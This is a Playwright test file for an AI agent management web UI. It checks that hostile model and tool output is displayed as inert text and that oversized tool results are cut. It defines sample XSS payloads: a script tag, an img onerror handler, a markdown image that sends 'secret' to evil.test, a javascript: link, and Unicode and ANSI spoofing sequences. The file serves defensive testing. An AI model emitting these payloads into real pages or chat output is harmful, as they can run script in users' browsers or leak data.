// What models and tools say is shown as they said it, and does nothing.

import type { Page } from "@playwright/test";

import { NAMESPACE, expect, expectAccessible, ready, test } from "./fixtures.ts";
import { becomesReady, create } from "./resources.ts";
import { say, scriptedModel } from "./scripted.ts";

const HOSTILE = [
  "<script>window.hacked = 1</script>",
  '<img src="http://evil.test/x" onerror="window.hacked = 2">',
  "![a](http://evil.test/?q=secret)",
  "[click me](javascript:window.hacked=3)",
  "pay \u202Eevil\u202C now",
  "\u001b[31mred\u001b[0m",
].join("\n\n");

/** The fixture fails the test when anything was asked of another origin. */
async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
  await expect(page.locator("main img")).toHaveCount(0);
  await expect(page.getByText("window.hacked = 1").first()).toBeVisible();
  const text = await page.locator("main").innerText();
  expect(text).not.toContain("\u202E");
  expect(text).not.toContain("\u001b");
}

test("an answer", async ({ page, request }) => {
  const model = await scriptedModel((response) => say(response, HOSTILE));
  await create(request, "ModelAPI", "hostile-model", {
    mode: "Proxy",
    proxyConfig: { models: ["*"], provider: "openai", apiBase: model.url },
  });
  await create(request, "Agent", "hostile-speaker", { modelAPI: "hostile-model", model: "evil" });
  await becomesReady(request, "Agent", "hostile-speaker");
  await page.goto(`/ns/${NAMESPACE}/agents/hostile-speaker/chat`);
  await ready(page);
  await page.getByLabel("Message hostile-speaker").fill("Say it.");
  await page.getByLabel("Message hostile-speaker").press("Enter");
  const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
  await expect(answer).toHaveAttribute("data-state", "done");
  await expectHarmless(page);
  // And as the server draws it.
  await page.reload();
  await ready(page);
  await expectHarmless(page);
  await expectAccessible(page);
  model.stop();
});

test("a tool's result, and one of two megabytes", async ({ page, request }) => {
  const params = [
    "def speak() -> str:",
    '    """Says something hostile."""',
    `    return ${JSON.stringify(HOSTILE)}`,
    "",
    "def drone() -> str:",
    '    """Says very much."""',
    "    return 'x' * 2_000_000",
  ].join("\n");
  await create(request, "MCPServer", "hostile-tools", { runtime: "python-string", params });
  await becomesReady(request, "MCPServer", "hostile-tools");
  await page.goto(`/ns/${NAMESPACE}/mcpservers/hostile-tools/tools/speak`);
  await ready(page);
  await page.getByRole("button", { name: "Call", exact: true }).click();
  await expect(page.getByRole("region", { name: "Result" })).toContainText("Success");
  await expectHarmless(page);

  await page.goto(`/ns/${NAMESPACE}/mcpservers/hostile-tools/tools/drone`);
  await ready(page);
  await page.getByRole("button", { name: "Call", exact: true }).click();
  const result = page.getByRole("region", { name: "Result" });
  await expect(result).toContainText("Success");
  await expect(result.locator(".cut").first()).toBeVisible();
  expect((await page.content()).length, "letters of the page").toBeLessThan(1_000_000);
});
